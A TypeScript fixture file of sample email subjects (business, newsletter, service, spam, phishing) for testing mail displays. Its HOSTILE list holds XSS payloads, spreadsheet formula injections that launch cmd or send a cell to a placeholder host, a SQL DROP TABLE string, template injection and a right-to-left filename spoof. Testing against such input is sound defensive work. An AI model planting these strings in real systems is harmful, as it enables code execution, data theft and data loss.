/** Subjects of ordinary, unwanted and hostile mail. `#` becomes a number, `@` a partner's name. */

export interface Wording {
  language: string;
  text: string;
}

const of = (language: string, texts: readonly string[]): Wording[] =>
  texts.map((text) => ({ language, text }));

export const BUSINESS: readonly Wording[] = [
  ...of('en', [
    'Order #### confirmed',
    'Minutes of the weekly call',
    'Delivery window for shipment ####',
    'Quarterly figures, draft #',
    'Question about contract ####',
    'Travel plan for next week',
    'Updated price list',
    'Invoice ####',
    'Feedback on the offer',
    'Access for the new colleague',
    'Maintenance this Sunday',
    'Photos of the site',
    'Re-stock of warehouse #',
    'Lunch on Thursday?',
    'Signed agreement ####',
    'Customs papers for ####',
    'Open points from yesterday',
    'Holiday cover',
    'Training dates',
    'Claim ####: damaged pallet',
  ]),
  ...of('de', [
    'Auftragsbestätigung ####',
    'Lieferschein ####',
    'Rückfrage zu Rechnung ####',
    'Protokoll der Besprechung',
    'Urlaubsvertretung',
    'Angebot ####',
  ]),
  ...of('ja', ['お見積り ####', '会議の議事録', '納期の確認 ####', '請求書 ####']),
  ...of('ru', ['Счёт ####', 'Договор ####: правки', 'Встреча в четверг']),
  ...of('el', ['Παραγγελία ####', 'Πρακτικά συνάντησης']),
  ...of('ar', ['عرض أسعار ####', 'موعد التسليم ####']),
  ...of('pl', ['Zamówienie ####', 'Pytanie do faktury ####']),
  ...of('fr', ['Bon de livraison ####', 'Réunion de mercredi']),
];

export const NEWSLETTER: readonly Wording[] = [
  ...of('en', [
    'This week at @',
    'Five numbers about freight',
    'Your monthly digest',
    'New in the catalogue',
    'Last seats: webinar on ####',
    'Save 20% until Sunday',
  ]),
  ...of('de', ['Neues aus dem Lager', 'Ihr Monatsrückblick']),
];

export const SERVICE: readonly Wording[] = of('en', [
  'Reminder: review at 14:30',
  'Ticket #### was updated',
  'Your parcel #### is on its way',
  'Backup report: 0 errors',
  'You were invited to sign ####',
  'Payslip for October is ready',
  'Survey: how was your stay?',
  'Meeting notes are ready',
  'Storage is 80% full',
  'Expense report #### approved',
]);

export const SPAM: readonly Wording[] = [
  ...of('en', [
    'You have won ####',
    'Cheap meds, no questions',
    'Rank #1 on every search engine',
    'Re: your funds of USD ####000',
    'Work from home, #### a week',
    'Last chance!!!',
    'Your domain expires',
    'HOT singles near you',
    'Investment plan ####% a month',
    'Undelivered package, pay #.99',
  ]),
  ...of('ru', ['Вы выиграли ####', 'Кредит за 5 минут']),
  ...of('ja', ['当選のお知らせ ####', '副業のご案内']),
];

/** Subjects that break careless displays: markup, formulas, direction overrides, emptiness, excessive length. */
export const HOSTILE: readonly string[] = [
  '<script>alert(document.domain)</script>',
  '<img src=x onerror=alert(1)> Invoice',
  '"><svg/onload=confirm(1)>',
  '=HYPERLINK("https://collect.invalid/?x="&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A1",
  '\tTab before the words',
  'Statement \u202Efdp.exe',
  '\u2066hidden\u2069 order \u200B\u200B\u200Bnumber',
  '',
  ' ',
  `Re: ${'Re: '.repeat(60)}chain`,
  `A very long subject ${'that does not want to end '.repeat(36)}`,
  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 stacked marks',
  "'; DROP TABLE emails; --",
  '{{constructor.constructor("return 1")()}} #{7*7}',
  '👩‍👩‍👧‍👦🏳️‍🌈 party 🎉',
  'null',
  'NUL \u0001\u0002 control',
];

export const PHISHING_SINGLE: readonly Wording[] = [
  ...of('en', [
    'Mailbox full: verify now',
    'Unusual sign-in to your account',
    'Document waiting for signature ####',
    'Payment advice ####',
    'Password expires today',
  ]),
  ...of('de', ['Ihr Konto wurde gesperrt', 'Paket ####: Zollgebühr']),
  ...of('fr', ['Votre colis #### est en attente']),
];
